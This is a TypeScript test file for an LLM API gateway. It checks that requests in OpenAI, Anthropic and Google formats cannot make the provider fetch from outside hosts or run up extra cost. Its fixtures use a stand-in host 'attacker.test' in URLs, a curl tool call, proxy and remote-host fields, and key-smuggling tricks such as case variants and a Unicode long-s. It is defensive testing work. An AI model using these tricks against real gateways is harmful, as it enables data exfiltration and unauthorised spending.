import { expect, test } from 'vitest'
import type { Json } from '../../../../src/domain/json.ts'
import { gatewayWorld } from './gateway-world.ts'

const there = 'http://attacker.test/?what=it-found'
const inside = 'data:image/png;base64,AAAA'
const own = { type: 'function', name: 'get', parameters: { properties: { image_url: { type: 'string' } } } }

/**
 * The names in each format for work by the provider itself, and for work by the agent, which is
 * allowed.
 */
const formats = [
  {
    provider: 'wire',
    path: '/v1/chat/completions',
    refused: [
      { web_search_options: {} },
      { plugins: [{ id: 'web' }] },
      { models: ['other/dearer'] },
      { service_tier: 'priority' },
      { tools: [own, { type: 'web_search_preview' }] },
      { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: there } }] }] },
      // Servers that copy the format use other names, too.
      { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { URL: there } }] }] },
      { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: [there] } }] }] },
      { messages: [{ role: 'user', content: [{ type: 'document_url', document_url: there }] }] },
      { messages: [{ role: 'user', content: [{ type: 'file', file: { filename: 'a.pdf', file_data: there } }] }] },
      { messages: [{ role: 'user', content: [{ type: 'input_audio', input_audio: { data: there } }] }] },
      { messages: [{ role: 'user', content: [{ type: 'video', video: [there] }] }] },
      { tools: { 0: { type: 'web_search' } } },
      { tools: [{ ...own, Type: 'web_search' }] },
      { model: 'openai/gpt-5:online' },
      { modalities: ['text', 'audio'] },
    ],
    passed: {
      service_tier: 'auto',
      modalities: ['text'],
      tools: [own],
      messages: [
        { role: 'user', content: [{ type: 'image_url', image_url: { url: inside } }] },
        { role: 'assistant', tool_calls: [{ function: { name: 'get', arguments: JSON.stringify({ url: there }) } }] },
        { role: 'tool', content: `it reads ${there}` },
        { role: 'tool', content: there },
        { role: 'user', name: there, content: [{ type: 'text', text: there }] },
      ],
    },
  },
  {
    provider: 'openai',
    path: '/v1/responses',
    refused: [
      { background: true },
      { tools: [{ type: 'web_search', external_web_access: true }] },
      { tools: [{ type: 'mcp', server_url: there }] },
      { input: [{ type: 'tool_search_output', tools: [{ type: 'mcp', server_url: there }] }] },
      { prompt: { id: 'pmpt_1', variables: { a: { type: 'input_file', file_url: there } } } },
      { tools: [{ type: 'namespace', name: 'a', tools: [own, { type: 'code_interpreter' }] }] },
      { tools: [{ type: 'shell', environment: { type: 'container_auto' } }] },
      { input: [{ role: 'user', content: [{ type: 'input_image', image_url: there }] }] },
      { input: [{ type: 'function_call_output', output: [{ type: 'input_file', file_url: there }] }] },
    ],
    passed: {
      tools: [own, { type: 'custom', name: 'apply_patch' }, { type: 'namespace', tools: [own] }],
      input: [
        { role: 'user', content: [{ type: 'input_image', image_url: inside }] },
        { type: 'function_call', name: 'get', arguments: JSON.stringify({ file_url: there }) },
        { type: 'local_shell_call', action: { type: 'exec', command: ['curl', there] } },
        { type: 'tool_search_output', tools: [{ ...own, parameters: { $schema: there } }] },
        { type: 'function_call_output', call_id: 'a', output: there },
      ],
    },
  },
  {
    provider: 'anthropic',
    path: '/v1/messages',
    refused: [
      { mcp_servers: [{ type: 'url', url: there, name: 'a' }] },
      { container: { skills: [] } },
      { speed: 'fast' },
      { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
      { tools: [{ Type: 'web_fetch_20250910', name: 'web_fetch' }] },
      { tools: ['web_fetch'] },
      { inference_geo: 'us' },
      { system: [{ type: 'document', source: { type: 'url', url: there } }] },
      { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: there } }] }] },
      {
        messages: [
          {
            role: 'user',
            content: [
              {
                type: 'tool_result',
                tool_use_id: 'a',
                content: [{ type: 'document', source: { type: 'url', url: there } }],
              },
            ],
          },
        ],
      },
    ],
    passed: {
      tools: [
        { name: 'get', input_schema: {} },
        { type: 'text_editor_20250728', name: 'edit' },
      ],
      messages: [
        { role: 'user', content: [{ type: 'image', source: { type: 'base64', data: 'AAAA' } }] },
        { role: 'assistant', content: [{ type: 'tool_use', id: 'a', name: 'get', input: { url: there } }] },
      ],
    },
  },
  {
    provider: 'google',
    path: '/v1beta/models/gemini-3-pro:generateContent',
    refused: [
      { tools: [{ googleSearch: {} }] },
      { tools: [{ functionDeclarations: [], url_context: {} }] },
      { contents: [{ role: 'user', parts: [{ fileData: { fileUri: there } }] }] },
      { contents: [{ role: 'user', parts: [{ file_data: { file_uri: there } }] }] },
      { systemInstruction: { parts: [{ fileData: { fileUri: there } }] } },
      { generateContentRequest: { contents: [{ parts: [{ fileData: { fileUri: there } }] }] } },
      { serviceTier: 'priority' },
      { generationConfig: { responseModalities: ['TEXT', 'IMAGE'] } },
      { generation_config: { response_modalities: ['AUDIO'] } },
    ],
    passed: {
      tools: [{ functionDeclarations: [{ name: 'get' }] }],
      contents: [
        { role: 'model', parts: [{ functionCall: { name: 'get', args: { url: there } } }] },
        { role: 'user', parts: [{ functionResponse: { name: 'get', response: { file_uri: there } } }] },
      ],
    },
  },
] satisfies readonly { provider: string; path: string; refused: readonly Json[]; passed: Json }[]

test.each(formats)(
  'through $path nothing reaches other hosts by way of the provider, or costs more than is counted',
  async ({ provider, path, refused, passed }) => {
    const { wire, ask, rows } = await gatewayWorld(() => ({ refusal: { status: 200, body: '{}' } }), { provider })
    for (const more of refused) {
      const answer = await ask({ path, body: { model: 'local', ...more } })
      expect([more, answer.status, answer.json.error.message]).toEqual([
        more,
        400,
        expect.stringContaining('passes no request with'),
      ])
    }
    expect([wire.requests, await rows()]).toEqual([[], []])
    expect((await ask({ path, body: { model: 'local', ...passed } })).status).toBe(200)
    expect(wire.requests).toHaveLength(1)
  },
)

const sent = { model: 'local', messages: [{ role: 'user', content: 'Go on.' }], max_tokens: 10 }

test.each([
  ['a search of some provider', 'wire', sent, { search_parameters: { mode: 'on' } }],
  ['another search', 'wire', sent, { enable_search: true }],
  ['another provider behind a router', 'wire', sent, { provider: { order: ['dear'] } }],
  ['another server behind a proxy', 'wire', sent, { api_base: there }],
  ['another machine beside the server', 'wire', sent, { kv_transfer_params: { remote_host: 'attacker.test' } }],
  ['a name that some servers read whatever its case', 'wire', sent, { MAX_TOKENS: 90_000, Model: 'dear' }],
  ['a name that some servers read as one with an s', 'wire', sent, { '\u017fervice_tier': 'priority' }],
  ['a name that nobody knows', 'anthropic', sent, { new_in_2027: true }],
])('of a request, %s does not reach the provider, and the rest of it does', async (_, provider, known, more) => {
  const { wire, ask } = await gatewayWorld(() => ({ refusal: { status: 200, body: '{}' } }), { provider })
  const path = provider === 'wire' ? '/v1/chat/completions' : '/v1/messages'
  expect((await ask({ path, body: { ...known, ...more } })).status).toBe(200)
  expect(wire.requests.map(({ body }) => body)).toEqual([known])
})

test('the provider always gets JSON in UTF-8, whatever the agent’s headers say', async () => {
  const { wire, ask } = await gatewayWorld(() => ({ refusal: { status: 200, body: '{}' } }), { provider: 'wire' })
  const path = '/v1/chat/completions'
  for (const type of ['application/json; charset=utf-7', 'multipart/form-data; boundary=a', 'text/plain'])
    expect((await ask({ path, body: sent, headers: { 'content-type': type } })).status).toBe(200)
  expect(wire.requests.map(({ headers }) => headers['content-type'])).toEqual(Array(3).fill('application/json'))
  const odd = Buffer.concat([Buffer.from(JSON.stringify(sent).replace(/}$/, ',"service_tier')), Buffer.of(0xff)])
  const refused = await ask({ path, body: Buffer.concat([odd, Buffer.from('":"priority"}')]) })
  expect([refused.status, refused.json.error.message]).toEqual([400, 'Drydock: The body is no UTF-8.'])
  expect(wire.requests).toHaveLength(3)
})
